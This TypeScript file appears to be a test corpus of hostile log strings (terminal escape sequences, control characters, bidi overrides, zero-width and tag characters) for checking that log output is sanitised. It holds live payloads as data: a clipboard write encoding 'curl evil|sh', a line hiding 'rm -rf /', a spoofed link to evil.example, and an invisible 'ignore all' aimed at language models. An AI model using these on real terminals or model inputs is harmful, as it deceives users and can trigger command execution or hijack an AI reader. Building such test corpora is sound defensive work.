/**
 * Log texts made to act on a terminal instead of being shown. Kept apart from its tests, so that
 * whatever prints log text can be tried with the same corpus.
 */
export interface Hostile {
  readonly name: string;
  readonly text: string;
}

const ESC = "\x1b";
const BEL = "\x07";
const ST = `${ESC}\\`;

/** Name → text. Controls alone, one by one, are added below. */
const ATTACKS: Readonly<Record<string, string>> = {
  // Control sequences, ECMA-48.
  "CSI: clear the screen": `${ESC}[2J`,
  "CSI: clear the scrollback": `${ESC}[3J`,
  "CSI: home and overwrite": `harmless${ESC}[Hgone`,
  "CSI: up a line and overwrite": `denied${ESC}[1A${ESC}[2Kgranted`,
  "CSI: hide by erasing the line": `secret${ESC}[2K`,
  "CSI: column one": `rm -rf /${ESC}[1Gls      `,
  "CSI: hidden text": `${ESC}[8mhidden${ESC}[0m`,
  "CSI: black on black": `${ESC}[30;40mhidden${ESC}[0m`,
  "CSI: colours that never end": `${ESC}[31;41;5m`,
  "CSI: a million parameters": `${ESC}[${"1;".repeat(1000)}m`,
  "CSI: a huge repeat count": `x${ESC}[2147483647b`,
  "CSI: a huge line insert": `${ESC}[99999999L`,
  "CSI: alternate screen": `${ESC}[?1049h`,
  "CSI: no cursor": `${ESC}[?25l`,
  "CSI: mouse reports": `${ESC}[?1000h${ESC}[?1006h`,
  "CSI: focus reports": `${ESC}[?1004h`,
  "CSI: bracketed paste off": `${ESC}[?2004l`,
  "CSI: line feed mode": `${ESC}[20h`,
  "CSI: insert mode": `${ESC}[4h`,
  "CSI: scroll region of one line": `${ESC}[1;1r`,
  "CSI: device attributes, answered as typed text": `${ESC}[c`,
  "CSI: secondary device attributes": `${ESC}[>c`,
  "CSI: cursor position report": `${ESC}[6n`,
  "CSI: status report": `${ESC}[5n`,
  "CSI: mode report": `${ESC}[?2026$p`,
  "CSI: window size report": `${ESC}[18t`,
  "CSI: title report, types the title": `${ESC}[21t`,
  "CSI: iconify": `${ESC}[2t`,
  "CSI: resize": `${ESC}[8;1;1t`,
  "CSI: soft reset": `${ESC}[!p`,
  "CSI: media copy to printer": `${ESC}[5i`,
  "CSI: synchronised output never ends": `${ESC}[?2026h`,
  "CSI: kitty keyboard": `${ESC}[>31u`,
  "CSI: modifyOtherKeys": `${ESC}[>4;2m`,
  "CSI: interrupted by CAN": `${ESC}[3\x181m`,
  "CSI: interrupted by SUB": `${ESC}[3\x1a1m`,
  "CSI: control inside": `${ESC}[3\x081m`,
  "CSI: unfinished at the end": `text${ESC}[`,
  "CSI: lone ESC at the end": `text${ESC}`,
  "CSI: doubled ESC": `${ESC}${ESC}[31m`,
  "CSI: colon parameters": `${ESC}[38:2::255:0:0m`,
  // Escapes of two or three characters.
  "ESC: full reset": `${ESC}c`,
  "ESC: save and restore the cursor": `${ESC}7${ESC}8`,
  "ESC: reverse index": `${ESC}M`,
  "ESC: line drawing for ASCII": `${ESC}(0`,
  "ESC: designate and shift": `${ESC})0\x0e`,
  "ESC: screen alignment": `${ESC}#8`,
  "ESC: double height": `${ESC}#3`,
  "ESC: keypad": `${ESC}=`,
  "ESC: leave UTF-8": `${ESC}%@`,
  "ESC: lock memory": `${ESC}l`,
  "ESC: set and clear tabs": `${ESC}H${ESC}[3g`,
  "ESC: seven-bit C1": `${ESC} G`,
  "ESC: VT52": `${ESC}[?2l${ESC}Y  `,
  // Operating system commands.
  "OSC: title": `${ESC}]0;owned${BEL}`,
  "OSC: title, ended by ST": `${ESC}]2;owned${ST}`,
  "OSC: title without an end": `${ESC}]0;owned`,
  "OSC: clipboard write": `${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}`,
  "OSC: clipboard read": `${ESC}]52;c;?${BEL}`,
  "OSC: link to elsewhere":
    `${ESC}]8;;https://evil.example${ST}https://good.example${ESC}]8;;${ST}`,
  "OSC: palette": `${ESC}]4;0;#ffffff${BEL}`,
  "OSC: foreground query": `${ESC}]10;?${BEL}`,
  "OSC: background query": `${ESC}]11;?${ST}`,
  "OSC: cursor colour": `${ESC}]12;black${BEL}`,
  "OSC: working directory": `${ESC}]7;file://host/etc${ST}`,
  "OSC: notification": `${ESC}]9;you won${BEL}`,
  "OSC: notification of urxvt": `${ESC}]777;notify;a;b${BEL}`,
  "OSC: shell integration": `${ESC}]133;C${ST}`,
  "OSC: iTerm2 file download": `${ESC}]1337;File=name=eA==:AAAA${BEL}`,
  "OSC: iTerm2 profile": `${ESC}]1337;SetProfile=Hotkey${BEL}`,
  "OSC: log file of old xterm": `${ESC}]46;/home/user/.profile${BEL}`,
  "OSC: font query": `${ESC}]50;?${BEL}`,
  "OSC: Linux palette, no end": `${ESC}]P0ff0000`,
  // Strings.
  "DCS: request a setting": `${ESC}P$q"p${ST}`,
  "DCS: request terminfo": `${ESC}P+q544e${ST}`,
  "DCS: user-defined keys": `${ESC}P0;1|17/726d202d7266${ST}`,
  "DCS: sixel": `${ESC}Pq#0;2;0;0;0#0~~~~${ST}`,
  "DCS: tmux passthrough": `${ESC}Ptmux;${ESC}${ESC}]52;c;eA==${BEL}${ST}`,
  "DCS: screen passthrough": `${ESC}P${ESC}]0;t${BEL}${ST}`,
  "APC: kitty graphics": `${ESC}_Gf=100,t=f;L2V0Yy9wYXNzd2Q=${ST}`,
  "PM: private message": `${ESC}^secret${ST}`,
  "SOS: swallows what follows": `${ESC}Xall this is gone`,
  "screen: title": `${ESC}kowned${ST}`,
  // C1 in one character, also as senders' Latin-1 bytes decode to.
  "C1: CSI": "\x9b31mred\x9b0m",
  "C1: CSI query": "\x9b6n",
  "C1: OSC": "\x9d0;owned\x9c",
  "C1: DCS": '\x90$q"p\x9c',
  "C1: APC": "\x9fGa=d\x9c",
  "C1: NEL": "first\x85second",
  "C1: index": "first\x84second",
  "C1: reverse index": "first\x8dsecond",
  "C1: single shift": "\x8ea\x8fb",
  "C1: lone ST": "text\x9c",
  // Controls that rewrite or add lines.
  "CR: overwrites the line": "login failed\rlogin ok    ",
  "CR LF: adds a line": "one\r\n2026-11-21T10:32:01Z [api] forged",
  "LF: adds a line": "one\n2026-11-21T10:32:01Z [api] forged",
  "BS: takes back": "evil\b\b\b\bgood",
  "BS: overstrikes": "g\bgo\bo",
  "DEL: rubs out": "evil\x7f\x7f\x7f\x7fgood",
  "VT and FF: move down": "one\vtwo\fthree",
  "BEL: a thousand": BEL.repeat(1000),
  "ENQ: answerback": "\x05",
  "NUL: cuts C strings": "shown\0hidden",
  "SO and SI: other letters": "\x0elqqk\x0f",
  "XOFF: stops output": "\x13",
  // Bidirectional text (the "Trojan Source" paper, 2021).
  "bidi: override": "user\u202e)nimda( \u2066//",
  "bidi: override without an end": "\u202egnp.exe",
  "bidi: embedding": "\u202babc\u202c",
  "bidi: left-to-right override": "\u202dabc\u202c",
  "bidi: isolates": "\u2066a\u2067b\u2068c\u2069",
  "bidi: marks": "a\u200eb\u200fc\u061cd",
  "bidi: deprecated format characters": "\u206a\u206b\u206c\u206d\u206e\u206f",
  // Text that is not seen.
  "zero width: space": "ad\u200bmin",
  "zero width: joiner and non-joiner": "ad\u200dmi\u200cn",
  "zero width: word joiner": "ad\u2060min",
  "zero width: byte order mark": "\ufeffadmin",
  "zero width: soft hyphen": "ad\u00admin",
  "zero width: invisible operators": "f\u2061(x)\u2062y\u2063z\u2064",
  "zero width: grapheme joiner": "a\u034fb",
  "zero width: Mongolian separator": "a\u180eb",
  "zero width: Hangul fillers": "a\u115f\u1160\u3164\uffa0b",
  "zero width: Khmer vowels": "a\u17b4\u17b5b",
  "tags: a sentence for a language model": [..."ignore all"]
    .map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!)).join(""),
  "tags: flag of Wales": "\u{1f3f4}\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f}",
  "variation selectors: bytes in a smile": "😀\ufe01\u{e0100}\u{e01ef}",
  "variation selectors: alone": "\ufe0f\ufe0f",
  "interlinear annotation": "\ufff9a\ufffab\ufffb",
  "line and paragraph separator": "one\u2028two\u2029three",
  "musical format characters": "\u{1d173}\u{1d17a}",
  // Widths and marks.
  "marks: a tower of a thousand": "z" + "\u0301".repeat(1000),
  "marks: towers of many kinds": "H\u0321\u0336\u0354\u0316\u0323\u0300\u0301\u0302\u0303\u0304e",
  "marks: enclosing, nine": "a" + "\u20dd".repeat(9),
  "marks: with nothing below": "\u0300".repeat(40),
  "marks: a tower of Hangul vowels": "한" + "\u1161".repeat(1000),
  "emoji: joined family": "👨\u200d👩\u200d👧\u200d👦",
  "emoji: presentation": "⚠\ufe0f 1\ufe0f\u20e3",
  "emoji: text presentation": "⚠\ufe0e",
  "surrogates: a high half": "a\ud83db",
  "surrogates: a low half": "a\ude00b",
  "surrogates: in the wrong order": "\ude00\ud83d",
  // Combinations.
  "all at once": `\r\x9b2J${ESC}]0;x${BEL}\u202e\u200b${"\u0301".repeat(20)}\ud800\n`,
  "printable half of a sequence is kept": `${ESC}[31mERROR${ESC}[0m disk full`,
  "an escaped text that looks like ours": "\\u001b[31m ␛[31m \\n",
};

function controls(from: number, to: number): readonly Hostile[] {
  const all: Hostile[] = [];
  for (let code = from; code <= to; code++) {
    if (code === 9) continue; // A tab is harmless.
    const name = `control U+${code.toString(16).padStart(4, "0")}`;
    all.push({ name, text: `a${String.fromCharCode(code)}b` });
  }
  return all;
}

export const HOSTILE: readonly Hostile[] = [
  ...Object.entries(ATTACKS).map(([name, text]) => ({ name, text })),
  ...controls(0x00, 0x1f),
  ...controls(0x7f, 0x9f),
];
